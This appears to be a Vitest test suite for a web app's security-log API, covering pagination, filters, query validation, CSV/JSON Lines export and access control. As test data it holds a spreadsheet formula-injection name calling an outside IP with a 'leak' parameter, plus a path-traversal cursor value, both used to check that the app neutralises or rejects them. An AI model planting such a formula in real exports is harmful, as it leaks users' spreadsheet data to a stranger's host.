import { beforeAll, describe, expect, it } from "vitest";
import { encodeListCursor } from "@/lib/contracts/list-page";
import { ApiClient, type Json } from "./api-client";
import { invitePerson, type JoinedPerson } from "./people-fixtures";
import { setupStudioServer } from "./studio-server";

/**
 * The security log as an auditor reads it over HTTP: a page at a time with
 * nothing repeated or skipped, filtered by what, who and when, and exported
 * whole as CSV or JSON Lines. A name someone chose that a spreadsheet would
 * run as a formula is written as text.
 */

const server = setupStudioServer();
let owner: ApiClient;
const FORMULA_NAME = '=HYPERLINK("http://198.51.100.9/?leak="&A1,"open")';
const CHANGES = 23;
let mallory: JoinedPerson;

describe("the security log", () => {
  beforeAll(async () => {
    owner = server.client();
    mallory = await invitePerson(owner, "mallory", "viewer", "Mallory");
    // Each change of name is an entry of theirs.
    for (let change = 1; change <= CHANGES; change += 1) await mallory.client.expect(200, "PATCH", "/api/me", { displayName: `Mallory ${change}` });
    // A browser signed in with the token records the name typed with it: here one a spreadsheet would run.
    await new ApiClient(server.url).expect(200, "POST", "/api/auth/login", { token: server.token, name: FORMULA_NAME });
  });

  it("pages through the person's entries newest first, each once, and filters by what, who and when", async () => {
    const seen: Json[] = [];
    let cursor: string | null = null;
    do {
      const query: string = `actorId=${mallory.id}&limit=10${cursor ? `&cursor=${cursor}` : ""}`;
      const page = await owner.expect(200, "GET", `/api/audit?${query}`);
      expect(page.entries.length).toBeLessThanOrEqual(10);
      seen.push(...page.entries);
      cursor = page.nextCursor;
    } while (cursor !== null);
    const profileChanges = seen.filter((entry) => entry.action === "profile-changed");
    expect(profileChanges).toHaveLength(CHANGES);
    expect(new Set(seen.map((entry) => entry.id)).size).toBe(seen.length);
    expect(seen.map((entry) => entry.id)).toEqual([...seen.map((entry) => entry.id)].sort().reverse());
    expect(seen.every((entry) => entry.actorId === mallory.id)).toBe(true);
    // Joining is theirs too, and filtering by it finds that one.
    const joined = await owner.expect(200, "GET", `/api/audit?actorId=${mallory.id}&action=invitation-accepted`);
    expect(joined.entries).toHaveLength(1);
    expect(joined.nextCursor).toBeNull();
    // Days: today holds them, the day before none.
    const today = new Date().toISOString().slice(0, 10);
    const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
    expect((await owner.expect(200, "GET", `/api/audit?actorId=${mallory.id}&from=${today}&limit=200`)).entries).toHaveLength(seen.length);
    expect((await owner.expect(200, "GET", `/api/audit?actorId=${mallory.id}&to=${yesterday}`)).entries).toEqual([]);
  });

  it("names the parameter a bad query got wrong, and what it expected", async () => {
    for (const [query, field] of [
      ["limit=0", "limit"],
      ["limit=201", "limit"],
      ["action=deleted-everything", "action"],
      ["from=last%20tuesday", "from"],
      ["to=2026-13-45", "to"],
      ["cursor=..%2F..%2Fetc", "cursor"],
      // A runs list's cursor is not the log's.
      [`cursor=${encodeListCursor({ sort: "startedAt", direction: "desc", value: 1, id: "x" })}`, "cursor"],
    ] as const) {
      const answer = await owner.get(`/api/audit?${query}`);
      expect(answer.status, query).toBe(422);
      expect(answer.body.issues.map((issue: Json) => issue.path), query).toContain(field);
    }
    const badFormat = await owner.get("/api/audit/export?format=xlsx");
    expect(badFormat.status).toBe(422);
    expect(badFormat.body.issues.map((issue: Json) => issue.path)).toContain("format");
  });

  it("exports the filtered log as CSV a spreadsheet shows as text, and as JSON Lines, and logs the export", async () => {
    const csv = await owner.get(`/api/audit/export?format=csv&action=sign-in`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(csv.headers.get("content-disposition")).toMatch(/^attachment; filename="security-log-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = csv.text.trimEnd().split("\r\n");
    expect(lines[0]).toBe("at,actor,actorId,action,target,clientAddress,detail");
    expect(lines.length).toBeGreaterThanOrEqual(2);
    // The formula name is one quoted cell, its quotes doubled, after a ' that keeps it text.
    const formulaLine = lines.find((line) => line.includes("HYPERLINK"));
    expect(formulaLine?.startsWith(`"${new Date().getUTCFullYear()}`)).toBe(true);
    expect(formulaLine).toContain(`,"'=HYPERLINK(""http://198.51.100.9/?leak=""&A1,""open"")",`);

    const jsonl = await owner.get(`/api/audit/export?format=jsonl&actorId=${mallory.id}`);
    expect(jsonl.headers.get("content-type")).toMatch(/^application\/x-ndjson/);
    const entries = jsonl.text.trimEnd().split("\n").map((line) => JSON.parse(line) as Json);
    expect(entries.filter((entry) => entry.action === "profile-changed")).toHaveLength(CHANGES);
    expect(entries.every((entry) => entry.actorId === mallory.id)).toBe(true);

    const exports = (await owner.expect(200, "GET", "/api/audit?action=audit-exported")).entries;
    expect(exports.map((entry: Json) => entry.detail.format)).toEqual(["jsonl", "csv"]);
    // Reading the log is for those who hold audit:read; a viewer's export is refused like the list.
    expect((await mallory.client.get("/api/audit/export?format=csv")).status).toBe(403);
  });
});
